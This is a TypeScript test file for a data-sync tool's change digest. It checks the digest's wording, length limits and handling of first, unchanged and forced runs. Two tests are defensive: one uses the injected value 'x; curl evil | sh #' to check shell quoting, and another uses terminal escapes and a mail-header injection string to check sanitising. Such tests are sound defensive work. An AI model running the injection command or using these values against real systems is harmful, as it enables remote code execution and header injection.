import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { collectDigest, printDigest } from '../../../lib/report/digest/digest.ts';
import { type Change, printChange } from '../../../lib/snapshot/changes/change.ts';
import { changesKey } from '../../../lib/snapshot/keys.ts';
import { type Manifest, publishedRuns } from '../../../lib/snapshot/manifest.ts';
import { monday, publishLines, tuesday } from '../../snapshot/changes/publish-lines.ts';
import { createMemoryStore, type MemoryStore } from '../../store/memory-store.ts';

/** The digest of Tuesday's run with these changes since Monday's run. Its records are those of the changes. */
async function digestOf(
  changes: readonly Change[],
  manifest: Partial<Manifest> = {},
  prepare: (store: MemoryStore) => Promise<unknown> = async () => undefined,
) {
  const store = createMemoryStore();
  await prepare(store);
  const before = changes.flatMap((change) => ('before' in change ? [change.before] : []));
  const after = changes.flatMap((change) => ('after' in change ? [change.after] : []));
  if (manifest.changes !== null)
    await publishLines(store, {
      run: monday,
      lines: before,
      manifest: { missing: [{ id: '5', status: 404, since: monday.startedAt }] },
    });
  const count = (what: string) => changes.filter(({ change }) => change === what).length;
  const counts = { added: count('added'), removed: count('removed'), changed: count('changed') };
  const key = changesKey('calculations', tuesday, monday.id, '0');
  await publishLines(store, {
    run: tuesday,
    lines: after,
    manifest: { changes: { against: monday.id, ...counts, key }, ...manifest },
  });
  const lines = changes.map((change) => `${printChange(change)}\n`).join('');
  await store.put(key, gzipSync(lines));
  const [run] = await publishedRuns(store, 'calculations');
  if (run === undefined) throw new Error('expected a run');
  const digest = await collectDigest({
    ...{ store, place: 'calculations', run: run.run },
    links: { calculation: 'https://acme.example.com/calculations/{id}' },
  });
  return printDigest(digest, { location: 's3://bucket/acme', hasReport: true });
}

const record = (id: string, name: string, more: object = {}) => JSON.stringify({ id, name, ...more });

const links = (...valid: readonly string[]) => ({
  links: valid.map((each, index) => ({ resource: { type: 'DATA_SOURCE', id: `d${index}` }, valid: each })),
});

test('a value from a manifest is quoted as one argument of the command that a digest shows', async () => {
  const key = changesKey('calculations', tuesday, monday.id, '0');
  const changes = { against: 'x; curl evil | sh #', added: 1, removed: 0, changed: 0, key };

  const { text } = await digestOf([{ change: 'added', key: '1', after: record('1', 'New') }], { changes });

  expect(text).toContain(`platform-sync diff calculations "x; curl evil | sh #" ${tuesday.id}`);
});

test('a digest describes changes in words, beginning with what is newly broken', async () => {
  const { subject, text } = await digestOf(
    [
      { change: 'added', key: '1', after: record('1', 'New') },
      { change: 'removed', key: '2', before: record('2', 'Old') },
      {
        change: 'changed',
        key: '3',
        before: record('3', 'Margin', { lastModified: Date.UTC(2026, 10, 16) }),
        after: record('3', 'Margin', { lastModified: Date.UTC(2026, 10, 17) }),
        fields: ['lastModified'],
      },
      {
        change: 'changed',
        key: '4',
        before: record('4', 'Sales', links('VALID')),
        after: record('4', 'Sales', links('ILLEGAL_REFERENCE', 'ILLEGAL_REFERENCE')),
        fields: ['links'],
      },
    ],
    {
      missing: [
        { id: '5', status: 404, since: monday.startedAt },
        { id: '6', status: 403, since: tuesday.startedAt },
      ],
    },
  );

  expect(subject).toBe(
    'calculations of acme.example.com: new: 1 with broken links, 1 added, 1 removed, 2 changed',
  );
  expect(text.split('\n')).toEqual([
    `calculations: run ${tuesday.id} was published.`,
    '',
    'Platform: acme.example.com',
    'Taken: 2026-11-17 09:00 to 2026-11-17 09:00 UTC',
    'Records: 3',
    `Since run ${monday.id}: 1 added, 1 removed, 2 changed`,
    'Wrong in total: 1 calculation with broken links, 0 calculations that are invalid, 0 calculations with a missing target, 0 calculations that are affected',
    'Clean-up: unused: 3',
    '',
    'New with broken links: 1. One of its links says that it is not VALID.',
    '  calculation Sales (4)',
    '    saved on dataset d0: illegal_reference',
    '    in the platform: https://acme.example.com/calculations/4',
    '',
    'Removed: 1',
    '  removed Old (2)',
    '',
    'Added: 1',
    '  added New (1)',
    '',
    'Changed: 2',
    '  changed Sales (4)',
    expect.stringMatching(/^ {4}links: …?.*VALID.* → /),
    '  changed Margin (3)',
    '    lastModified: 2026-11-16T00:00:00.000Z → 2026-11-17T00:00:00.000Z',
    '',
    'Could not be read: 2',
    '',
    'No longer readable: 1',
    '  6: 403',
    '',
    'Report: s3://bucket/acme/report/latest.html',
    'A link to it: npx platform-sync report --link',
    `All changes: npx platform-sync diff calculations ${monday.id} ${tuesday.id}`,
    '(with SYNC_STORE=s3://bucket/acme)',
  ]);
});

test('a digest has less than eighty lines, however many changes there are', async () => {
  const names = ['a', 'b', 'c', 'd', 'e'];
  const of = (value: number) => Object.fromEntries(names.map((name) => [name, value]));
  const { subject, text } = await digestOf(
    Array.from({ length: 300 }, (_, index): Change => {
      const key = String(index);
      const after = record(key, `é${'x'.repeat(500)}`, { ...of(2), ...links('BROKEN', 'BROKEN', 'BROKEN') });
      if (index % 3 === 0) return { change: 'added', key, after };
      if (index % 3 === 1) return { change: 'removed', key, before: after };
      return {
        change: 'changed',
        key,
        before: record(key, 'a', of(1)),
        after,
        fields: [...names, 'links', 'name'],
      };
    }),
    { platform: 'a-very-long-name-of-a-platform-in-a-very-long-domain.example.com' },
  );

  expect(text.split('\n').length).toBeLessThan(80);
  expect(Math.max(...text.split('\n').map(({ length }) => length))).toBeLessThan(410);
  expect(text).toContain('  and 94 more');
  expect(subject).toMatch(/^[ -~]{1,99}$/);
});

test('names of records cannot affect a terminal or a mail', async () => {
  const hostile = '\u001b[31mred\u0007\r\nBcc: a@b\u202ereversed https://evil.example \ud800\uffff';
  const { text } = await digestOf([
    { change: 'added', key: 'k\n', after: record('1', hostile, links('\u001b[2J')) },
  ]);

  expect(text).not.toMatch(/[^\n\P{Cc}]/u);
  expect(text).not.toContain('\u202e');
  expect(text).not.toContain('://evil');
  expect(text.isWellFormed()).toBe(true);
  expect(text.split('\n').filter((line) => line.startsWith('Bcc'))).toEqual([]);
});

test('a digest says if a run is the first, if it has no changes, and if it was forced', async () => {
  const first = await digestOf([], { changes: null });
  const same = await digestOf([]);
  const forced = await digestOf([], {
    forced: true,
    refused: ['shrunk', 'degraded'],
    degradedPages: 3,
    consistency: 'best-effort',
  });

  expect(first.subject).toBe('calculations of acme.example.com: 0 records');
  expect(first.text).toContain('It was compared with no other run.');
  expect(same.text).toContain(`Nothing has changed since run ${monday.id}.`);
  expect(forced.text).toContain(
    'It was published by force, even though it was refused: shrunk, degraded (3 pages)',
  );
  expect(forced.text).toContain('It is not proved to be complete: 3 pages stayed degraded.');
});

test('a damaged run of cards does not stop the digest of calculations', async () => {
  const { text } = await digestOf([], {}, (store) => store.put('cards/latest.json', Buffer.from('{}')));

  expect(text).toContain('What is broken is unknown: see the faults in the report.');
});
